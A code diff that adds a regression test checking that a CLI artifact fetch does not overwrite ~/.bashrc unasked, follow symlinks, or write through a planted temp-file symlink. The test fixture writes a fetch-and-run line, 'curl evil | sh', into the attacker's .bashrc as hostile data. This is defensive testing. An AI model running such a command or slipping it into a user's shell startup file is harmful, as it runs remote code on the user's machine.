@@ -279,6 +279,60 @@ def test_bad_input_is_refused_and_records_nothing(sp: Sp, ws: Path, tmp_path: Pa
     assert res.code == EXIT_USER and "go together" in res.err
 
 
+def test_a_fetch_never_replaces_a_file_unasked_nor_follows_a_link(
+    sp: Sp, ws: Path, tmp_path: Path
+) -> None:
+    """With -o DIR the file name comes from the checkpoint, here from a bundle: fetching its
+    artifact "rc" into the home directory replaced ~/.bashrc, with no prompt and no backup."""
+    sender = tmp_path / "sender"
+    sender.mkdir()
+    (sender / ".bashrc").write_text("curl evil | sh\n")
+    sp("snap", "--artifact", f"rc={sender / '.bashrc'}", cwd=sender)
+    bundle = tmp_path / "run.spb"
+    sp("export", "-o", str(bundle), cwd=sender)
+    sp("import", str(bundle), "--as", "theirs", cwd=ws)
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("mine\n")
+    fetch = ("--session", "theirs", "show", "HEAD", "--artifact", "rc", "-o")
+
+    res = sp(*fetch, str(home), cwd=ws, check=False)
+    assert res.code == EXIT_USER and "--overwrite" in res.err, res
+    assert str(home / ".bashrc") in res.err
+    assert (home / ".bashrc").read_text() == "mine\n"
+    res = sp(*fetch, str(home / ".bashrc"), cwd=ws, check=False)  # a file named: the same
+    assert res.code == EXIT_USER and (home / ".bashrc").read_text() == "mine\n", res
+    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]  # no temp file left either
+
+    # A symlink there is neither followed nor replaced, --overwrite or not.
+    elsewhere = tmp_path / "elsewhere.txt"
+    elsewhere.write_text("not yours\n")
+    links = tmp_path / "links"
+    links.mkdir()
+    (links / ".bashrc").symlink_to(elsewhere)
+    for extra in ((), ("--overwrite",)):
+        res = sp(*fetch, str(links), *extra, cwd=ws, check=False)
+        assert res.code == EXIT_USER and "symlink" in res.err, (extra, res)
+        assert elsewhere.read_text() == "not yours\n"
+        assert (links / ".bashrc").is_symlink()
+
+    # Asked for, it replaces the file; a new name needs nothing.
+    sp(*fetch, str(home), "--overwrite", cwd=ws)
+    assert (home / ".bashrc").read_text() == "curl evil | sh\n"
+    sp(*fetch, str(tmp_path / "their-bashrc"), cwd=ws)
+    assert (tmp_path / "their-bashrc").read_text() == "curl evil | sh\n"
+
+    # Nor is a symlink planted at the temp name the write goes through first.
+    with stashpoint.open(ws / ".stashpoint") as store:
+        run = store.session("theirs")
+        planted = tmp_path / "planted"
+        planted.mkdir()
+        (planted / f".stashpoint-tmp-.bashrc.{os.getpid()}").symlink_to(elsewhere)
+        with pytest.raises(OSError):
+            run.fetch_artifact("HEAD", "rc", planted)
+    assert elsewhere.read_text() == "not yours\n"
+
+
 def test_a_damaged_chunk_is_caught_and_the_target_is_left_alone(
     sp: Sp, ws: Path, tmp_path: Path
 ) -> None:
@@ -295,7 +349,7 @@ def test_a_damaged_chunk_is_caught_and_the_target_is_left_alone(
 
     dest = tmp_path / "existing.bin"
     dest.write_bytes(b"precious")
-    res = sp("show", "--artifact", "weights", "-o", str(dest), cwd=ws, check=False)
+    res = sp("show", "--artifact", "weights", "-o", str(dest), "--overwrite", cwd=ws, check=False)
     assert res.code == EXIT_INTEGRITY and "corrupt" in res.err, res
     assert dest.read_bytes() == b"precious"
     assert [p.name for p in tmp_path.iterdir() if "stashpoint-tmp" in p.name] == []
